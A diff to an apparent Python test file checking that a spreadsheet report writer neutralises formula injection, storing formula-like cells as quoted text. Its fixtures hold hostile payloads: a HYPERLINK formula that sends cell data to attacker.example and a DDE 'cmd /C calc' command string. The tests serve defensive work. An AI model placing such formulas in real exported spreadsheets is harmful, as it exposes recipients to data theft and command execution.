@@ -9,7 +9,7 @@ from openpyxl import load_workbook
 from reporting.scores import score_report
 
 HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?x="&A1,"คลิกเพื่อดูหลักฐาน")'
-HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_NAME = "=cmd|' /C calc'!A0"
 
 
 @pytest.fixture
@@ -79,4 +79,6 @@ def test_append_row_keeps_every_formula_start_as_text(text):
     buffer = io.BytesIO()
     wb.save(buffer)
     a, b, c = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
-    assert (a.value, a.data_type) == (text, "s") and b.value == "ข้อความ" and c.value == 3
+    # text, and marked with Excel's quote prefix so editing the cell does not turn it into a formula
+    assert (a.value, a.data_type, a.quotePrefix) == (text, "s", True)
+    assert b.value == "ข้อความ" and not b.quotePrefix and c.value == 3
